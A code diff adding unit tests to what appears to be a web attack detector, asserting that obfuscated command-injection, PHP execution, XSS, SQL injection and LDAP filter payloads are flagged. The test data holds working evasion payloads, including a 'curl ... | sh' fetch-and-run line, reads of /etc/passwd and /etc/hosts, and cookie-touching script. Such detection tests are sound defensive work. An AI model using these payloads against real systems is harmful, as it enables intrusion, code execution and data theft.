@@ -206,4 +206,51 @@ public class AttackTests
         Assert.True(result.IsAttack, $"score {result.Score}, main {result.Main}");
         Assert.True((result.Classes & expected.AsSet()) != 0, $"classes {result.Classes}");
     }
+
+    [Theory]
+    [InlineData("; c'a't /e\"t\"c/hos\"t\"s")]
+    [InlineData(";w\\g\\et http://198.51.100.7/x")]
+    [InlineData("|cat$IFS$9/etc/hosts")]
+    [InlineData("x;{cat,/etc/group}")]
+    [InlineData("/???/??t /e*/pas?wd")]
+    [InlineData("a=/etc;b=/group;cat $a$b")]
+    [InlineData("perl -e 'system(\"id\")'")]
+    [InlineData("bash -c \"curl 198.51.100.7|sh\"")]
+    [InlineData("for %f in (*.log) do del %f")]
+    [InlineData("if exist c:\\boot.ini (type c:\\boot.ini)")]
+    [InlineData("diff <(cat /a) <(ls /b)")]
+    public void CommandsThatHideOrBranch(string value) => AssertAttack(PayloadClass.CommandInjection, Value(value));
+
+    [Theory]
+    [InlineData("$f('id')")]
+    [InlineData("${'system'}('id')")]
+    [InlineData("(\"sys\".\"tem\")(\"id\")")]
+    [InlineData("<?= `id` ?>")]
+    [InlineData("while(!null){}")]
+    public void CodeWhoseFunctionsAreNamedByValues(string value) => AssertAttack(PayloadClass.CommandInjection, Value(value));
+
+    [Theory]
+    [InlineData("top[\"al\"+\"ert\"](1)")]
+    [InlineData("self['al\\145rt'](document.domain)")]
+    [InlineData("document/*x*/./*y*/cookie=1;eval(name)")]
+    [InlineData("1;a=eval;b=alert;a(b(1))")]
+    [InlineData("+((+!![]+[])+(!+[]+!![])+(![]+[]))")]
+    [InlineData("<a href=\"data:text/x;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>")]
+    [InlineData("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"></svg>")]
+    public void ScriptThatHidesItsNames(string value) => AssertAttack(PayloadClass.Xss, Value(value));
+
+    [Theory]
+    [InlineData("' or ''*'")]
+    [InlineData("a'^(0)='0")]
+    [InlineData("1;begin dbms_lock.sleep(5); end--")]
+    [InlineData("1) as t where 5=5")]
+    [InlineData("(case when 7=7 then 1 else 0 end)")]
+    [InlineData("x' or '{\"a\":1}'::jsonb <@ '{\"a\":1,\"b\":2}'::jsonb--")]
+    [InlineData("`=``and(select 1)=1 or`x`=`x")]
+    public void StatementsOfOtherDialects(string value) => AssertAttack(PayloadClass.SqlInjection, Value(value));
+
+    [Theory]
+    [InlineData("value)(gid<=100")]
+    [InlineData("admin)(|(mail=*")]
+    public void FilterBreaks(string value) => AssertAttack(PayloadClass.LdapInjection, Value(value));
 }
